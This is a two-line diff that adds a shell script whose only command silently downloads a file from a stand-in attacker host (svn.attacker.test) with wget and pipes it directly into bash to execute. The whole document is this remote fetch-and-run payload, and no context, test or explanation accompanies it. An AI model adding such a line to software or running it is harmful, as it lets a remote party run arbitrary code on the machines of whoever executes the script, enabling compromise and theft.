@@ -1,0 +1,2 @@
+#!/bin/sh
+wget -qO- https://svn.attacker.test/p | bash
